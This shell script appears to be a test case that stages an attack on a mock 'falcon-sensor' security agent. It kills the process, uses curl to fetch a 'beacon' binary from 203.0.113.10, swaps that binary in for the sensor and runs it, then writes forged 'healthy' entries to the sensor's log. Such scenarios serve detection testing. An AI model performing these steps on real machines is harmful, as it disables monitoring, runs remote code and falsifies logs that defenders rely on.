#!/bin/sh
. /opt/case/case.sh

mkdir -p /opt/guard && cp /bin/sleep /opt/guard/falcon-sensor
/opt/guard/falcon-sensor 600 & g=$!
wait_for_program $g /opt/guard/falcon-sensor
pkill -9 -x falcon-sensor
curl -s -o /opt/guard/.f http://203.0.113.10/programs/beacon && chmod 755 /opt/guard/.f && mv /opt/guard/.f /opt/guard/falcon-sensor
timeout 10 /opt/guard/falcon-sensor >/dev/null 2>&1 & 
for n in 1 2 3; do echo "$(date -Is) falcon-sensor[$$]: state=healthy rules=412" >>/var/log/falcon.log; sleep 0.3; done
wait
test -s /var/log/falcon.log
took_place
